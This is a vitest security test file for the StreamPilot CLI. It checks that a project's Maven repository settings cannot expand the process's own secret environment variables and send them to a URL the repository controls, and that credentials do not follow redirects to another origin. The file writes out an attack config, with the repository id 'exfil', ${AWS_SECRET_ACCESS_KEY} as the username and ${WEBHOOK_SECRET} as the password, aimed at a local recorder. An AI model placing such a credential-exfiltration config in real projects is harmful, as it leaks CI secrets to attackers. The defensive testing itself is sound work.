// Attack: a repository names `${ANY_ENV}` as Maven credentials and a URL it controls, hoping
// StreamPilot's process (a CI runner, the app) expands its own secrets and sends them there.
// The CLI runs as its own process against a loopback recorder standing in for that URL.
import { createHash, randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { runCliAsync, type CliRun } from '../support/run-cli.js';

interface Recorded {
  path: string;
  authorization: string | undefined;
}

interface Recorder {
  url: string;
  requests: Recorded[];
  close(): Promise<void>;
}

const COORDINATE = 'org.example:udf:1.0';
const JAR = Buffer.from(`jar-${randomBytes(8).toString('hex')}`);

/** Records every request's Authorization header; serves one jar (and its .sha256) so a resolution can succeed. */
async function startRecorder(redirectTo?: () => string): Promise<Recorder> {
  const requests: Recorded[] = [];
  const server: Server = createServer((req, res) => {
    const p = new URL(req.url ?? '/', 'http://x').pathname;
    requests.push({ path: p, authorization: req.headers.authorization });
    if (redirectTo) return res.writeHead(302, { location: `${redirectTo()}${p.replace(/^\/maven2\//, '')}` }).end();
    if (p.endsWith('/udf-1.0.jar')) return res.writeHead(200).end(JAR);
    if (p.endsWith('/udf-1.0.jar.sha256'))
      return res.writeHead(200).end(createHash('sha256').update(JAR).digest('hex'));
    return res.writeHead(404).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/maven2/`,
    requests,
    close: () => new Promise((r) => server.close(() => r())),
  };
}

const AWS_MARKER = `aws-secret-${randomBytes(8).toString('hex')}`;
const HOOK_MARKER = `webhook-secret-${randomBytes(8).toString('hex')}`;
const ALLOWED_PASSWORD = `allowed-pw-${randomBytes(8).toString('hex')}`;
const markers = [AWS_MARKER, HOOK_MARKER, ALLOWED_PASSWORD];
const base64Markers = markers.map((m) => Buffer.from(m).toString('base64'));

function writeRepository(root: string, repository: string): void {
  writeFileSync(
    path.join(root, 'streampilot.yaml'),
    `apiVersion: streampilot.dev/v1
kind: Project
defaults:
  baseImage: 127.0.0.1:9/flink:1.20
registry:
  repository: 127.0.0.1:9/acme/jobs
  insecure: true
maven:
  repositories:
${repository}
environments:
  staging:
    namespace: flink-staging
`,
  );
  mkdirSync(path.join(root, 'jobs', 'orders'), { recursive: true });
  writeFileSync(
    path.join(root, 'jobs', 'orders', 'job.yaml'),
    `apiVersion: streampilot.dev/v1\nkind: FlinkSqlJob\nname: orders\nsql: [main.sql]\nupgradeMode: stateless\ndependencies:\n  maven: [${COORDINATE}]\n`,
  );
  writeFileSync(
    path.join(root, 'jobs', 'orders', 'main.sql'),
    `CREATE TABLE src (id STRING) WITH ('connector' = 'datagen');
CREATE TABLE snk (id STRING) WITH ('connector' = 'blackhole');
INSERT INTO snk SELECT id FROM src;
`,
  );
}

const scratch = mkdtempSync(path.join(tmpdir(), 'sp-maven-creds-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));
let n = 0;

async function cli(repository: string, args: string[], env: Record<string, string> = {}): Promise<CliRun> {
  const root = path.join(scratch, `repo-${++n}`);
  mkdirSync(root);
  writeRepository(root, repository);
  const cacheHome = path.join(scratch, `cache-${n}`);
  // The process holds the secrets an attacker would want, under the names the attack uses.
  // `check` takes the folder as its argument, `build` as --dir.
  const where = args[0] === 'check' ? [root] : ['--dir', root];
  return runCliAsync([...args, ...where], {
    cacheHome,
    env: { AWS_SECRET_ACCESS_KEY: AWS_MARKER, WEBHOOK_SECRET: HOOK_MARKER, ...env },
  });
}

function expectNoMarker(run: CliRun, recorder: Recorder, allowed: string[] = []): void {
  const output = run.stdout + run.stderr;
  for (const m of markers) expect(output).not.toContain(m);
  for (const m of base64Markers) expect(output).not.toContain(m);
  const leaked = recorder.requests.filter((r) => r.authorization !== undefined && !allowed.includes(r.authorization));
  expect(leaked).toEqual([]);
}

describe('Maven credentials cannot be pointed at StreamPilot’s own environment', { timeout: 60_000 }, () => {
  let recorder: Recorder;
  beforeAll(async () => {
    recorder = await startRecorder();
  });
  afterAll(() => recorder.close());

  const attack = () =>
    `    - id: exfil\n      url: ${recorder.url}\n      username: \${AWS_SECRET_ACCESS_KEY}\n      password: \${WEBHOOK_SECRET}`;

  test('`build` (no --push) with username ${AWS_SECRET_ACCESS_KEY} / password ${WEBHOOK_SECRET} sends no marker to the URL the repository names', async () => {
    const before = recorder.requests.length;
    const run = await cli(attack(), ['build']);
    expect(run.status).not.toBe(0);
    expect(run.stderr).toMatch(/maven repository `exfil`: credentials are not read from streampilot\.yaml/);
    expect(run.stderr).toContain('STREAMPILOT_MAVEN_EXFIL_USERNAME');
    expectNoMarker(run, recorder);
    expect(recorder.requests.slice(before).filter((r) => r.authorization)).toEqual([]);
  });

  test('`check` refuses the same streampilot.yaml at the username and password keys, quoting neither variable’s value', async () => {
    const run = await cli(attack(), ['check']);
    expect(run.status).toBe(1);
    expect(run.stdout + run.stderr).toMatch(
      /streampilot\.yaml:12:7.*`maven\.repositories\[0\]\.username` is no longer read/,
    );
    expect(run.stdout + run.stderr).toMatch(
      /streampilot\.yaml:13:7.*`maven\.repositories\[0\]\.password` is no longer read/,
    );
    expectNoMarker(run, recorder);
  });

  test('the allow-listed STREAMPILOT_MAVEN_<ID>_* credentials reach the pinned URL, and only it', async () => {
    const before = recorder.requests.length;
    const env = {
      STREAMPILOT_MAVEN_MIRROR_USERNAME: 'ci',
      STREAMPILOT_MAVEN_MIRROR_PASSWORD: ALLOWED_PASSWORD,
      STREAMPILOT_MAVEN_MIRROR_URL: recorder.url,
    };
    const run = await cli(`    - { id: mirror, url: "${recorder.url}" }`, ['build'], env);
    const expected = `Basic ${Buffer.from(`ci:${ALLOWED_PASSWORD}`).toString('base64')}`;
    const sent = recorder.requests.slice(before);
    expect(sent.map((r) => r.path)).toContain('/maven2/org/example/udf/1.0/udf-1.0.jar');
    expect(sent.every((r) => r.authorization === expected)).toBe(true);
    expectNoMarker(run, recorder, [expected]);
  });

  test('the same allow-listed variables are not sent when streampilot.yaml gives repository `mirror` another URL', async () => {
    const other = await startRecorder();
    try {
      const env = {
        STREAMPILOT_MAVEN_MIRROR_USERNAME: 'ci',
        STREAMPILOT_MAVEN_MIRROR_PASSWORD: ALLOWED_PASSWORD,
        STREAMPILOT_MAVEN_MIRROR_URL: recorder.url,
      };
      const run = await cli(`    - { id: mirror, url: "${other.url}" }`, ['build'], env);
      expect(run.status).not.toBe(0);
      expect(run.stderr).toContain(
        `streampilot.yaml names ${other.url}, which is not the URL the credentials are for (STREAMPILOT_MAVEN_MIRROR_URL); nothing was sent`,
      );
      expect(other.requests).toEqual([]);
      expectNoMarker(run, other);
    } finally {
      await other.close();
    }
  });

  test('a pinned repository that redirects elsewhere does not carry the credentials to the other origin', async () => {
    const elsewhere = await startRecorder();
    const redirecting = await startRecorder(() => elsewhere.url);
    try {
      const env = {
        STREAMPILOT_MAVEN_MIRROR_USERNAME: 'ci',
        STREAMPILOT_MAVEN_MIRROR_PASSWORD: ALLOWED_PASSWORD,
        STREAMPILOT_MAVEN_MIRROR_URL: redirecting.url,
      };
      const run = await cli(`    - { id: mirror, url: "${redirecting.url}" }`, ['build'], env);
      expect(redirecting.requests.length).toBeGreaterThan(0);
      expect(elsewhere.requests.length).toBeGreaterThan(0);
      expectNoMarker(run, elsewhere);
    } finally {
      await redirecting.close();
      await elsewhere.close();
    }
  });
});
